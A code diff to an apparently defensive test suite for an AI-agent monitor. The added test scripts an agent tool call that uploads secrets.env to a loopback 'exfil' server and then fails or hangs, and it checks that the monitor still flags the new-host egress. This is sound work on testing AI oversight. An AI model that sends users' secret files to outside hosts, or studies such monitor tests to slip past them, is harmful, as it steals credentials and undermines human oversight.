@@ -12,12 +12,12 @@
  */
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { TaskResult } from '../../../task/task-run';
-import { startWardenTestEnv, type WardenTestEnv } from '../../support/warden-test-env';
-import { FIXTURES, REPO_ROOT } from '../../mcp/mcp-test-kit';
-import { newClerkSetup, normalClerkRuns, clerkTask, withCurl, withUploader, startLoopbackServer, type ClerkSetup, type LoopbackServer, learnBaselineFrom } from '../../support/monitor-kit';
+import type { TaskResult } from '../../task/task-run';
+import { startWardenTestEnv, type WardenTestEnv } from '../support/warden-test-env';
+import { FIXTURES, REPO_ROOT } from '../mcp/mcp-test-kit';
+import { newClerkSetup, normalClerkRuns, clerkTask, withCurl, withUploader, startLoopbackServer, type ClerkSetup, type LoopbackServer, learnBaselineFrom } from '../support/monitor-kit';
 
-const OWN_FIXTURES = join(__dirname, '..', 'fixtures');
+const OWN_FIXTURES = join(__dirname, 'fixtures');
 let env: WardenTestEnv;
 let api: LoopbackServer;
 let exfil: LoopbackServer;
@@ -57,11 +57,43 @@ async function exfiltrate(padding: number): Promise<{ result: TaskResult; seen: 
   return { result, seen };
 }
 
+/** The clerk's MCP call that reads secrets.env to the new host with a GET, then fails (`mode`). */
+async function mcpExfiltrate(mode: 'error' | 'hang'): Promise<{ result: TaskResult; seen: string }> {
+  exfil.received.length = 0;
+  const task = curlClerkTask(
+    [{ tool: 'fs.read', args: { path: 'notes.txt' } }, { tool: 'uploader.upload', args: { dest: `${exfil.url}/collect`, path: 'secrets.env', mode } }, { final: 'done' }],
+    { extraHosts: [exfil.host], limits: { maxSteps: 60, approvalTimeout: '3s' } },
+    join(OWN_FIXTURES, 'fetch-then-fail-server.mjs'),
+  );
+  // A call that never answers times out after 5 s.
+  ((task.tools as { mcp: Record<string, Record<string, unknown>> }).mcp.uploader!).timeout = '5s';
+  const result = await env.runTask(task);
+  const step = result.steps[1]!;
+  const seen = `status ${result.status}; exfil got ${JSON.stringify(exfil.received.map((r) => r.url))}; step ${JSON.stringify({ monitor: step.monitor, effects: step.effects, error: step.error }).slice(0, 1200)}`;
+  return { result, seen };
+}
+
+describe('a stdio MCP server that reaches a new host and then fails its call', () => {
+  it.each([
+    ['reports an error (isError)', 'error', 'ERR_MCP_TOOL_FAILED'],
+    ['never answers (the call times out)', 'hang', undefined],
+  ] as const)('%s: is still recorded and scored new-host', async (_what, mode, code) => {
+    const { result, seen } = await mcpExfiltrate(mode);
+    expect(exfil.received.length, seen).toBeGreaterThan(0);
+    const step = result.steps[1]!;
+    expect(step.error?.code, seen).toBeDefined();
+    if (code !== undefined) expect(step.error?.code, seen).toBe(code);
+    expect(step.effects?.some((e) => JSON.stringify(e.effect).includes('egress-proxy') && JSON.stringify(e.effect).includes(exfil.host)), seen).toBe(true);
+    expect(step.monitor?.reasons.map((r) => r.signal) ?? [], seen).toContain('new-host');
+  });
+});
+
 describe('a program that reaches a new host and then runs past its wall-time limit', () => {
   it('is still scored new-host', async () => {
     const { result, seen } = await exfiltrate(100_000);
     expect(exfil.received.length, seen).toBeGreaterThan(0);
     expect(result.steps[1]!.error?.code, seen).toBe('ERR_SANDBOX_TIMEOUT');
+    expect(result.steps[1]!.effects?.some((e) => JSON.stringify(e.effect).includes(exfil.host)), seen).toBe(true);
     expect(result.steps[1]!.monitor?.reasons.map((r) => r.signal) ?? [], seen).toContain('new-host');
   });
 });
